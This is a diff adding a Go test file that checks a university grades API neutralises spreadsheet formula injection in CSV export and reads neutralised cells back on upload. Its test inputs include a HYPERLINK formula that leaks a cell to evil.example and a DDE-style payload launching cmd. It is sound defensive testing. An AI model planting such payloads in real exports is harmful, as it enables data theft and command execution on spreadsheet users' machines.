@@ -1,0 +1,161 @@
+package api
+
+import (
+	"context"
+	"errors"
+	"io"
+	"log/slog"
+	"net/http"
+	"net/http/httptest"
+	"strings"
+	"testing"
+	"time"
+
+	"campus/internal/db/dbtest"
+	"campus/internal/study"
+	"campus/internal/study/api/spectest"
+	"campus/internal/study/store"
+	"campus/internal/tokencheck"
+)
+
+// tokens stands in for identity's signature check: each token is a
+// caller's claims.
+type tokens map[string]*tokencheck.Claims
+
+func (t tokens) Verify(_ context.Context, raw string) (*tokencheck.Claims, error) {
+	if c, ok := t[raw]; ok {
+		return c, nil
+	}
+	return nil, errors.New("unknown token")
+}
+
+// staffToken is a grader's token (a JWT has two dots).
+const staffToken = "staff.token.x"
+
+const graderSub = "0190f3a4-8b1c-7d2e-9f00-00000000000a"
+
+// testAPI is the study API over a fresh SQLite store, with people the
+// given checker knows.
+type testAPI struct {
+	t     *testing.T
+	h     http.Handler
+	store *store.Store
+	c     study.Programme
+	lec   study.Lecture
+}
+
+func newTestAPI(t *testing.T, _ any) *testAPI {
+	t.Helper()
+	st := store.New(dbtest.SQLite(t, store.Migrations), time.Now)
+	h, err := NewServer(Deps{
+		Logger: slog.New(slog.NewTextHandler(io.Discard, nil)),
+		Issuer: "https://id.uni.example",
+		Store:  st,
+		JWT:    tokens{staffToken: {Subject: graderSub, ClientID: "portal", Scopes: []string{"grades:read", "grades:write"}, Roles: []string{"staff"}}},
+		Now:    time.Now,
+	})
+	if err != nil {
+		t.Fatal(err)
+	}
+	a := &testAPI{t: t, h: h, store: st}
+	ctx := context.Background()
+	must := func(err error) {
+		t.Helper()
+		if err != nil {
+			t.Fatal(err)
+		}
+	}
+	a.c, err = st.CreateProgramme(ctx, study.Programme{Title: "B.Sc. Computer Science", Degree: "B.Sc.", Semesters: 6, CreditsRequired: 180, Language: "en", Status: study.ProgrammePublished})
+	must(err)
+	m, err := st.CreateModule(ctx, study.Module{Code: "INF-101", Title: "Programming", Credits: 10})
+	must(err)
+	a.lec, err = st.CreateLecture(ctx, study.Lecture{Code: "L-1", Title: "Programming I", HoursPerWeek: 4})
+	must(err)
+	_, err = st.LinkLecture(ctx, m.ID, a.lec.ID)
+	must(err)
+	_, err = st.LinkModule(ctx, study.ProgrammeModule{ProgrammeID: a.c.ID, ModuleID: m.ID, Compulsory: true, RecommendedSemester: 1})
+	must(err)
+	return a
+}
+
+// do sends a request as staff and checks the exchange against the spec.
+func (a *testAPI) do(method, path, contentType, body string) (*http.Response, string) {
+	a.t.Helper()
+	var rd io.Reader
+	if body != "" {
+		rd = strings.NewReader(body)
+	}
+	req := httptest.NewRequest(method, path, rd)
+	if body != "" {
+		req.Header.Set("Content-Type", contentType)
+	}
+	req.Header.Set("Authorization", "Bearer "+staffToken)
+	resp, raw := spectest.Validator(a.t).Do(a.t, a.h, req)
+	return resp, string(raw)
+}
+
+// enrolDirectly enrols subject through the store, as data from before
+// subjects were checked may have done.
+func (a *testAPI) enrolDirectly(subject string) {
+	a.t.Helper()
+	if _, err := a.store.Enrol(context.Background(), study.Enrolment{Subject: subject, ProgrammeID: a.c.ID}, false); err != nil {
+		a.t.Fatal(err)
+	}
+}
+
+// TestExportNeutralisesFormulas: a subject that a spreadsheet would run
+// as a formula is exported as text (OWASP: a single quote before it, the
+// cell quoted); other values are exported exactly as before.
+func TestExportNeutralisesFormulas(t *testing.T) {
+	t.Parallel()
+	a := newTestAPI(t, nil)
+	evil := []string{`=HYPERLINK("https://evil.example/?"&A1,"Click")`, "+1+1", "-2+3", "@SUM(A1:A2)", "\t=1+1", "\r=1+1"}
+	plain := "0190f3a4-8b1c-7d2e-9f00-000000000001"
+	for _, s := range append(evil, plain) {
+		a.enrolDirectly(s)
+		if _, err := a.store.AddGrade(context.Background(), study.GradeRecord{Subject: s, LectureID: a.lec.ID, Grade: 13,
+			Date: time.Date(2026, 2, 14, 0, 0, 0, 0, time.UTC), Grader: graderSub, Status: study.GradeFinal}); err != nil {
+			t.Fatal(err)
+		}
+	}
+	resp, raw := a.do("GET", "/v1/grades/export?lecture_id="+a.lec.ID, "", "")
+	if resp.StatusCode != http.StatusOK {
+		t.Fatalf("export: %d %s", resp.StatusCode, raw)
+	}
+	for _, s := range evil {
+		want := `"'` + strings.ReplaceAll(s, `"`, `""`) + `"`
+		if !strings.Contains(raw, ","+want+",") {
+			t.Errorf("export does not neutralise %q as %s:\n%s", s, want, raw)
+		}
+	}
+	// Legitimate values are unchanged: ids, the grade, the date, the
+	// status, the grader.
+	if !strings.Contains(raw, ","+plain+","+a.lec.ID+",,1,1.3,2026-02-14,final,"+graderSub+"\n") {
+		t.Errorf("a plain row changed:\n%s", raw)
+	}
+	if !strings.HasPrefix(raw, "id,subject,lecture_id,module_id,attempt,grade,graded_on,status,grader\n") {
+		t.Errorf("header: %q", raw[:min(len(raw), 80)])
+	}
+}
+
+// TestUploadReadsNeutralisedCells: a file written by the export (or by
+// any tool that neutralises the same way) reads back as the values.
+func TestUploadReadsNeutralisedCells(t *testing.T) {
+	t.Parallel()
+	in := "subject,grade,status\n\"'=cmd|' /C calc'!A0\",1.3,final\n\"'-ana\",'-1.0,final\n'bob,2.0,final\n"
+	rows, refused, err := parseGradeCSV([]byte(in), graderSub, "lecture-1")
+	if err != nil || len(refused) != 1 || len(rows) != 2 {
+		t.Fatalf("rows %+v refused %+v err %v", rows, refused, err)
+	}
+	if got := rows[0].Record.Subject; got != "=cmd|' /C calc'!A0" {
+		t.Errorf("subject read back as %q", got)
+	}
+	// The prefix is taken off a neutralised cell only: a grade "-1.0" is
+	// still off the scale, and a name with a leading quote keeps it.
+	if refused[0].Line != 3 || !strings.Contains(refused[0].Reason, "scale") {
+		t.Errorf("refused %+v", refused)
+	}
+	if got := rows[1].Record.Subject; got != "'bob" {
+		t.Errorf("subject %q, want 'bob", got)
+	}
+}
